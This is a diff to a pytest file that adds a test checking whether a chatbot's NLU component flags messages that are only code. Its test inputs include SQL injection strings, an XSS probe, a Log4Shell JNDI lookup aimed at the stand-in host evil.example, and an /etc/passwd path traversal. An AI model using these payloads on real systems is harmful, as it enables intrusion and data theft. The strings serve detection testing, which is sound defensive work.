@@ -34,3 +34,24 @@ def test_script_detection():
     assert is_traditional("查詢違章")
     assert not is_traditional("查询违章")
     assert not is_traditional("hello")
+
+
+@pytest.mark.parametrize("text, code", [
+    ("'; DROP TABLE vehicles; --", True),
+    ("SELECT name FROM persons WHERE 1=1", True),
+    ("<script>alert(1)</script>", True),
+    ("${jndi:ldap://evil.example/a}", True),
+    ("1' OR '1'='1", True),
+    ("../../../../etc/passwd", True),
+    # Chinese around the code: the model reads the words (a report may quote what it reports).
+    ("车管所门口有黄牛，他的微信是'; DROP TABLE violations; --", False),
+    ("select a plate", False),
+    ("any update on R202611270039?", False),
+    ("thank you very much", False),
+    ("<3 thanks", False),
+    ("", False),
+])
+def test_code_only_messages_are_recognised(text, code):
+    from nlu.components import looks_like_code
+
+    assert looks_like_code(text) is code
